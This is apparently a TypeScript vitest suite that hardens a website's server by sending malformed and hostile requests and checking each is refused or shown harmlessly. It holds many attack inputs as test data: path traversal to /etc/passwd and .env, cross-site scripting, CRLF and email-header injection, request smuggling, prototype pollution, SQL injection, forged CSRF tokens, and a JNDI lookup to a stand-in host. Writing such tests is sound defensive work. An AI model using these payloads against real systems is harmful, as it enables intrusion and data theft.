import { createHmac, randomUUID } from "node:crypto";
import { beforeAll, expect, inject, test } from "vitest";
import { get, request, send, type Answer } from "./wire.ts";

// What no browser of a visitor sends. Every answer is short, guarded, and says nothing of the machine.

let token: string;
let cookie: string;
beforeAll(async () => {
  const { headers, body } = await get("/api/csrf/");
  ({ token } = JSON.parse(body) as { token: string });
  cookie = (headers["set-cookie"] ?? "").split(";")[0] ?? "";
});

/** Sends bytes; returns the status, or "closed". */
async function answerTo(bytes: string | Buffer) {
  const answer = await send(bytes);
  if (answer === undefined) return { status: "closed" } as const;
  expectGuarded(answer);
  return answer;
}

function expectGuarded({ status, headers, body }: Answer): void {
  expect(status).not.toBe(500);
  expect(headers).toMatchObject({
    "content-security-policy": expect.stringContaining("default-src 'none'"),
    "x-content-type-options": "nosniff",
  });
  // Redirects stay on this site.
  expect(headers["location"] ?? "/").toMatch(/^\/(?![/\\])/);
  expect(body).not.toMatch(/node_modules|\bat .+\.ts:\d+/);
}

/** The 404 page says the path as text, in its title and on a line. */
const withoutPath = (body: string) =>
  body.replaceAll(/<title>[^<]*|Page Not Found: [^<]*/g, "");

test.each([
  "/../../etc/passwd",
  "/%2e%2e/%2e%2e/etc/passwd",
  "/assets/..%2f..%2fsite.json",
  "/%c0%ae%c0%ae/",
  "/%00",
  "/\\",
  "/%",
  "/en/articles/%E0%A4%A/",
  "//evil.test/",
  "/\\evil.test",
  "/%5cevil.test/",
  "http://evil.test/about",
  "/__proto__/",
  "/en/articles/constructor/",
  "/.env",
  "/.git/config",
  "/404.html",
  "/site.json",
  "/en/index.html.br",
  "/server/entry.server.js",
  "/en/about%0d%0aset-cookie:%20a=b",
  `/${"a/".repeat(3000)}`,
])("GET %s finds nothing and leads nowhere", async (path) => {
  const { status, headers, body } = await get(path);
  expect(status).toBe(404);
  expect(headers).not.toHaveProperty("location");
  expect(headers).not.toHaveProperty("set-cookie");
  expect(withoutPath(body)).not.toContain("evil.test");
  expect(body).not.toMatch(/(?:href|src|action)="\/[/\\]/);
});

test.each([
  ["/en/%3Cscript%3Ealert(1)%3C/script%3E/<script>alert(2)</script>", 404],
  ["/en/nope/?a=</script><script>alert(3)</script>", 404],
  ["/en/articles/?q=<script>alert(4)</script>", 200],
  ["/en/contact/sent/?ref=<script>alert(5)</script>", 200],
])(
  "markup in the address %s is shown as text, if at all",
  async (path, code) => {
    const { status, body } = await get(path);
    expect(status).toBe(code);
    expect(body).not.toMatch(/<script>alert/);
  },
);

test("signs that turn the reading direction are not shown in an address", async () => {
  expect((await get("/en/%E2%80%AEnope/")).body).not.toContain("\u202E");
});

const junk = "j".repeat(3500);

test.each([
  [
    "a language cookie that is a path",
    { cookie: "i18n_redirected=../../" },
    200,
    undefined,
  ],
  [
    "a language cookie that is another site",
    { cookie: "i18n_redirected=//evil.test", "accept-language": "en" },
    302,
    "/en/",
  ],
  [
    "7 KB of language and cookie",
    { cookie: junk, "accept-language": junk },
    200,
    undefined,
  ],
] as const)(
  "on the root, %s is harmless",
  async (_, headers, code, location) => {
    const answer = await get("/", { "sec-fetch-site": "none", ...headers });
    expect([answer.status, answer.headers["location"]]).toEqual([
      code,
      location,
    ]);
  },
);

const forged = {
  "x-forwarded-for": "6.6.6.6",
  "x-forwarded-host": "evil.test",
  "x-forwarded-proto": "https",
  "x-original-url": "/api/csrf/",
  "x-http-method-override": "DELETE",
  forwarded: "for=6.6.6.6;host=evil.test;proto=https",
};

test.each([
  ["a foreign Host", { host: "evil.test" }],
  ["headers of a proxy", forged],
] as const)("%s changes no address", async (_, headers) => {
  const { status, body } = await get("/en/about/", headers);
  expect(status).toBe(200);
  expect(body).not.toMatch(/evil\.test|6\.6\.6\.6/);
  expect(body).toContain(`href="${inject("server").origin}/en/about/"`);
  const moved = await get("/en/about", headers);
  expect(moved.headers["location"]).toBe("/en/about/");
});

test.each([
  ["every encoding refused", { "accept-encoding": "br;q=0, *;q=0" }],
  ["unknown encodings", { "accept-encoding": "evil, x-gzip;q=9" }],
  ["7 KB of encodings", { "accept-encoding": junk + junk }],
  ["1,000 ranges", { range: `bytes=${"0-0,".repeat(1000)}0-0` }],
  ["a range beyond the end", { range: "bytes=99999999-" }],
  ["1,500 tags that do not match", { "if-none-match": '"a",'.repeat(1500) }],
])("with %s the whole page comes, uncompressed", async (_, headers) => {
  const answer = await get("/en/about/", headers);
  expect(answer.status).toBe(200);
  expect(answer.headers).not.toHaveProperty("content-encoding");
  expect(answer.body).toContain("</html>");
});

const post = (headers: string, body = "") =>
  `POST /api/contact/ HTTP/1.1\r\nhost: x\r\nconnection: close\r\n${headers}\r\n${body}`;
const getWith = (lines: string) => `GET /en/ HTTP/1.1\r\n${lines}\r\n\r\n`;

test.each<[string, string | Buffer, (number | "closed")[]]>([
  ["no Host", request("GET", "/en/", { host: undefined }), [400]],
  ["two Hosts", getWith("host: a\r\nHost: b\r\nconnection: close"), [400]],
  [
    "both Content-Length and Transfer-Encoding",
    post("content-length: 5\r\ntransfer-encoding: chunked\r\n", "0\r\n\r\n"),
    [400],
  ],
  [
    "two Content-Lengths",
    post("content-length: 5\r\ncontent-length: 6\r\n", "abcdef"),
    [400],
  ],
  [
    "a Content-Length that is no number",
    post("content-length: 1e3\r\n"),
    [400],
  ],
  [
    "a chunk of wrong length",
    post("transfer-encoding: chunked\r\n", "zz\r\nx\r\n0\r\n\r\n"),
    [400, 403],
  ],
  ["lines ended by LF only", "GET /en/ HTTP/1.1\nhost: x\n\n", [400]],
  ["a folded header", getWith("host: x\r\na: b\r\n c"), [400]],
  ["NUL in a header", getWith("host: x\r\na: b\0c"), [400]],
  ["a header of 9 KB", getWith(`host: x\r\na: ${"b".repeat(9000)}`), [431]],
  ["a TLS hello", Buffer.from("16030100c8010000c40303", "hex"), [400]],
  ["an unknown method", "EVIL /en/ HTTP/1.1\r\nhost: x\r\n\r\n", [400]],
  [
    "CONNECT",
    "CONNECT evil.test:443 HTTP/1.1\r\nhost: x\r\n\r\n",
    ["closed", 400, 405],
  ],
  [
    "an expectation nobody has",
    request("GET", "/en/", { expect: "200-ok" }),
    [417],
  ],
  [
    "a request hidden in the body of another",
    request("POST", "/en/about/", {}, getWith("host: x")),
    [405],
  ],
])("a request with %s is refused", async (_, bytes, expected) => {
  const answer = await answerTo(bytes);
  expect(expected).toContain(answer.status);
});

test.each(
  ["PUT", "DELETE", "PATCH", "TRACE", "OPTIONS"].flatMap((method) => [
    [method, "/en/about/", "GET, HEAD"],
    [method, "/nope/", "GET, HEAD"],
    [method, "/api/contact", "POST"],
  ]),
)("%s %s is answered 405 with what is allowed", async (method, path, allow) => {
  const answer = await answerTo(request(method ?? "", path ?? ""));
  expect(answer).toMatchObject({ status: 405, headers: { allow } });
});

const lead = {
  name: "Attack Test",
  email: "attack@example.jp",
  message: "hello",
  privacy: "yes",
  locale: "en",
  page: "/en/contact/",
};

type Headers = Record<string, string | undefined>;

/** Posts an enquiry as the application does, but for some fields and headers, or with another body. */
function postJson(fields: object = {}, headers: Headers = {}, body?: string) {
  const own = { submissionId: randomUUID(), ...lead, ...fields };
  const { origin } = inject("server");
  const type = "application/json";
  const all = { origin, "content-type": type, "csrf-token": token, cookie };
  return answerTo(
    request(
      "POST",
      "/api/contact/",
      { ...all, ...headers },
      body ?? JSON.stringify(own),
    ),
  );
}

test("an enquiry as the application posts it is stored once, and its id takes no other content", async () => {
  const submissionId = randomUUID();
  expect((await postJson({ submissionId })).status).toBe(201);
  expect((await postJson({ submissionId })).status).toBe(200);
  expect((await postJson({ submissionId, message: "other" })).status).toBe(409);
});

const origin = inject("server").origin;
const expires = Date.now() + 3_600_000;
const guess = createHmac("sha256", "guess").update("x").digest("base64url");

test.each<[string, Headers]>([
  ["no Origin", { origin: undefined }],
  ["the Origin null", { origin: "null" }],
  ["a foreign Origin", { origin: "https://evil.test" }],
  ["an Origin that begins as ours", { origin: `${origin}.evil.test` }],
  ["another site in Fetch Metadata", { "sec-fetch-site": "cross-site" }],
  ["no token in the header csrf-token", { "csrf-token": undefined }],
  ["no cookie", { cookie: undefined }],
  ["somebody else's cookie", { cookie: `csrf=${"A".repeat(22)}` }],
  ["a forged token", { "csrf-token": `${expires}.${guess}` }],
])("an enquiry with %s is refused", async (_, headers) => {
  expect((await postJson({}, headers)).status).toBe(403);
});

test("a token that says to live longer than it was signed for is refused", async () => {
  const longer = token.replace(/^\d/, "9");
  expect((await postJson({}, { "csrf-token": longer })).status).toBe(403);
});

test.each([
  ["text/plain", 415],
  ["multipart/form-data; boundary=x", 415],
  ["application/xml", 415],
  ["application/jsonx", 415],
  ["", 415],
  ["application/json;charset=utf-8", 201],
  ["APPLICATION/JSON", 201],
])("an enquiry of the media type '%s' is answered %i", async (type, code) => {
  expect((await postJson({}, { "content-type": type })).status).toBe(code);
});

test.each([
  ['{"__proto__":{"isAdmin":true}}', 400],
  ['{"constructor":{"prototype":{"x":1}}}', 400],
  ['{"attribution":{"a":{"__proto__":{}}}}', 400],
  ['{"name":', 400],
  ["", 400],
  ["[".repeat(15_000), 400],
  ["[]", 400],
  ["null", 400],
  ["5", 400],
  [JSON.stringify({ message: "x".repeat(33 * 1024) }), 413],
])("the body %.40s is answered %i", async (body, code) => {
  expect((await postJson({}, {}, body)).status).toBe(code);
});

test("bytes that are no UTF-8 are refused", async () => {
  const head = request("POST", "/api/contact/", {
    origin,
    "content-type": "application/json",
    "csrf-token": token,
    cookie,
    "content-length": "6",
  });
  const body = Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]);
  const answer = await answerTo(Buffer.concat([Buffer.from(head), body]));
  expect(answer.status).toBe(400);
});

test.each<[string, object, number]>([
  ["a list for a text", { name: ["a"] }, 400],
  ["an object for a text", { email: { $gt: "" } }, 400],
  ["SQL for an id", { submissionId: "' OR 1=1--" }, 400],
  ["3,001 characters", { message: "x".repeat(3001) }, 422],
  ["a name of NUL and RLO only", { name: "\u0000\u202E" }, 422],
  ["a line break in the address", { email: "a@b.co\r\nBcc: e@evil.test" }, 422],
  ["two addresses", { email: "a@b.co,evil@evil.test" }, 422],
  ["many dots in the address", { email: `a@${"a.".repeat(120)}` }, 422],
  ["3,000 emoji", { message: "😀".repeat(3000) }, 201],
  ["half a letter", { message: "half a letter: \uD800" }, 201],
  ["a formula", { name: "=HYPERLINK(A1)" }, 201],
  ["markup", { message: "<script>alert(1)</script>" }, 201],
  ["a template", { message: "{{7*7}} ${jndi:ldap://evil.test/a}" }, 201],
  ["SQL", { message: "' OR 1=1; DROP TABLE lead;--" }, 201],
  ["an internationalised address", { email: "taro@例え.jp" }, 201],
  ["a field that nobody knows", { isAdmin: true }, 201],
  ["somebody else's page", { page: "https://evil.test/" }, 201],
])("an enquiry with %s is answered %j", async (_, fields, code) => {
  expect((await postJson(fields)).status).toBe(code);
});

test("after all of this the server still answers", async () => {
  expect((await get("/readyz")).status).toBe(200);
});
